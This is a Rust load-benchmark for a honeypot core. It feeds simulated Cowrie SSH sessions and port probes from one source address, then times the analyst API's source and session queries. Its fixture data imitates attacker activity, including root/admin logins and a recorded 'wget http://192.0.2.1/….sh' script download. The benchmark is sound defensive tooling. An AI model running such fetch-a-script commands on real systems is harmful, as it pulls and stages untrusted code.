//! `source-load`: how fast the analyst's views answer for a busy source.
//! Starts the real `honeybee-core`, has one node store `--events` events
//! (default 100,000) from one source address (SSH sessions of Cowrie's
//! shape: connects, client versions, logins, commands, closes; and
//! Extension-style probes of many ports) among `--noise` events from other
//! sources, then times `--queries` requests (default 200) of
//! `GET /api/v1/sources/{ip}`, `GET /api/v1/sessions?src_ip=` and
//! `GET /api/v1/sessions/{id}` with and without `src_ip`. Prints p50, p99
//! and max; asserts nothing.
//!
//!     cargo build --release -p honeybee-core -p honeybee-bench
//!     target/release/source-load --events 100000 --noise 100000

use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use honeybee_bench::core_process::{json_body, CoreProcess};
use honeybee_proto::{
    decode, encode_into, CoreMessage, Envelope, NodeMessage, NodeRegistration, NodeType, PotEvent,
    CAP_EVENT_ACK,
};
use serde_json::{json, Value};

const SOURCE: &str = "203.0.113.77";

/// Event times: one second apart, ending about now (retention keeps them).
fn base() -> i64 {
    static BASE: std::sync::OnceLock<i64> = std::sync::OnceLock::new();
    *BASE.get_or_init(|| honeybee_proto::time::now_unix().0 - 400_000)
}

fn event(seq: u64, busy: bool) -> NodeMessage {
    let (src, session) = if busy {
        (SOURCE.to_string(), format!("{:012x}", seq / 10))
    } else {
        (
            format!("198.51.100.{}", seq % 250),
            format!("n{:011x}", seq / 10),
        )
    };
    let step = seq % 10;
    let (event_type, data) = match step {
        0 => ("cowrie.session.connect", json!({})),
        1 => (
            "cowrie.client.version",
            json!({"version": format!("SSH-2.0-Go{}", seq % 7)}),
        ),
        2..=4 => (
            "cowrie.login.failed",
            json!({"username": format!("user{}", seq % 500), "password": format!("pw{}", seq % 3000)}),
        ),
        5 => (
            "cowrie.login.success",
            json!({"username": "root", "password": "admin"}),
        ),
        6 | 7 => (
            "cowrie.command.input",
            json!({"input": format!("wget http://192.0.2.1/{}.sh", seq % 900)}),
        ),
        8 => (
            "extension.connection",
            json!({"protocol": "http", "dst_port": 8000 + seq % 200, "user_agent": format!("zgrab/{}", seq % 30)}),
        ),
        _ => ("cowrie.session.closed", json!({"duration": 3.5})),
    };
    let mut d = json!({"src_ip": src, "src_port": 40_000 + seq % 20_000, "dst_port": 22,
        "protocol": "ssh", "session": session});
    if let (Value::Object(d), Value::Object(extra)) = (&mut d, data) {
        d.extend(extra);
    }
    let Value::Object(data) = d else {
        unreachable!("an object")
    };
    NodeMessage::PotEvent(PotEvent {
        node_id: 4242,
        pot_id: "cowrie-01".into(),
        pot_type: "cowrie".into(),
        event_type: event_type.into(),
        timestamp: honeybee_proto::time::format_rfc3339(base() + seq as i64, 0),
        seq: Some(seq),
        data,
    })
}

fn feed(core: &CoreProcess, busy: u64, noise: u64) -> Result<(), String> {
    let mut sock = TcpStream::connect(core.node_addr).map_err(|e| e.to_string())?;
    let mut reader = BufReader::new(sock.try_clone().map_err(|e| e.to_string())?);
    let reg = NodeMessage::NodeRegistration(NodeRegistration {
        node_id: 4242,
        node_name: "source-load".into(),
        address: "127.0.0.1".into(),
        port: 0,
        node_type: NodeType::Full,
        totp_code: None,
        enrollment_token: None,
        agent_version: Some("bench".into()),
        capabilities: vec![CAP_EVENT_ACK.into()],
        spool_epoch: None,
    });
    let mut buf = Vec::new();
    encode_into(&Envelope::new(reg), &mut buf);
    sock.write_all(&buf).map_err(|e| e.to_string())?;
    let mut line = String::new();
    reader.read_line(&mut line).map_err(|e| e.to_string())?;
    let total = busy + noise;
    let acker = std::thread::spawn(move || -> Result<(), String> {
        let mut text = String::new();
        loop {
            text.clear();
            if reader.read_line(&mut text).map_err(|e| e.to_string())? == 0 {
                return Err("connection closed before the last ack".into());
            }
            if let Ok(CoreMessage::EventAck(a)) = decode::<CoreMessage>(text.trim_end().as_bytes())
            {
                if a.seq >= total {
                    return Ok(());
                }
            }
        }
    });
    // The busy source's events spread evenly among the noise.
    let mut seq = 1;
    while seq <= total {
        buf.clear();
        let to = (seq + 499).min(total);
        for s in seq..=to {
            let is_busy = noise == 0 || (s * busy / total) != ((s - 1) * busy / total);
            encode_into(&Envelope::new(event(s, is_busy)), &mut buf);
        }
        sock.write_all(&buf).map_err(|e| e.to_string())?;
        seq = to + 1;
    }
    acker
        .join()
        .map_err(|_| "ack reader panicked".to_string())?
}

fn time(core: &CoreProcess, what: &str, path: &str, n: usize) -> Value {
    let mut lat = Vec::with_capacity(n);
    let mut last = String::new();
    for _ in 0..n {
        let t = Instant::now();
        last = core.get(path).unwrap_or_default();
        lat.push(t.elapsed());
    }
    lat.sort();
    let ms = |d: Option<&Duration>| d.map_or(0.0, |d| d.as_secs_f64() * 1e3);
    let pct = |p: usize| lat.get((lat.len() * p / 100).min(lat.len().saturating_sub(1)));
    let status = last.split(' ').nth(1).unwrap_or("?").to_string();
    println!(
        "{what}: HTTP {status}, {n} requests: p50 {:.1} ms, p99 {:.1} ms, max {:.1} ms",
        ms(pct(50)),
        ms(pct(99)),
        ms(lat.last())
    );
    let b = json_body(&last);
    if status != "200" {
        println!("  answer: {b}");
    }
    b
}

fn main() {
    let mut events = 100_000u64;
    let mut noise = 100_000u64;
    let mut queries = 200usize;
    let args: Vec<String> = std::env::args().skip(1).collect();
    let mut it = args.iter();
    while let Some(a) = it.next() {
        let v = it
            .next()
            .and_then(|v| v.replace('_', "").parse::<u64>().ok());
        match (a.as_str(), v) {
            ("--events", Some(v)) => events = v.max(10),
            ("--noise", Some(v)) => noise = v,
            ("--queries", Some(v)) => queries = v.max(1) as usize,
            _ => {
                eprintln!("source-load [--events N] [--noise N] [--queries Q]");
                std::process::exit(2);
            }
        }
    }
    let core = CoreProcess::start(false).unwrap_or_else(|e| {
        eprintln!("source-load: starting the core: {e}");
        std::process::exit(1)
    });
    let t = Instant::now();
    if let Err(e) = feed(&core, events, noise) {
        eprintln!("source-load: feeding events: {e}");
        std::process::exit(1);
    }
    println!(
        "stored {events} events of {SOURCE} among {noise} of other sources in {:.1} s",
        t.elapsed().as_secs_f64()
    );
    let story = time(
        &core,
        "GET /api/v1/sources/{ip}",
        &format!("/api/v1/sources/{SOURCE}"),
        queries,
    );
    println!(
        "  story: {} events (complete {}), {} ports, {} credentials, {} commands, {} sessions",
        story["event_count"],
        story["complete"],
        story["ports"]["total"],
        story["credentials"]["total"],
        story["commands"]["total"],
        story["sessions"]["total"]
    );
    let list = time(
        &core,
        "GET /api/v1/sessions?src_ip=",
        &format!("/api/v1/sessions?src_ip={SOURCE}&limit=50"),
        queries,
    );
    // The oldest session of the list's window, and the newest.
    let newest = list["sessions"][0]["session"]
        .as_str()
        .unwrap_or("")
        .to_string();
    // The session of the source's first event (as `feed` spreads them).
    let total = events + noise;
    let first = (1..=total)
        .find(|&s| noise == 0 || (s * events / total) != ((s - 1) * events / total))
        .unwrap_or(1);
    let oldest_id = format!("{:012x}", first / 10);
    time(
        &core,
        "GET /api/v1/sessions/{id} (newest, no src_ip)",
        &format!("/api/v1/sessions/{newest}"),
        queries,
    );
    time(
        &core,
        "GET /api/v1/sessions/{id}?src_ip= (oldest of the source)",
        &format!("/api/v1/sessions/{oldest_id}?src_ip={SOURCE}"),
        queries,
    );
    time(
        &core,
        "GET /api/v1/events/{id}",
        &format!("/api/v1/events/{}", total / 2),
        queries,
    );
}
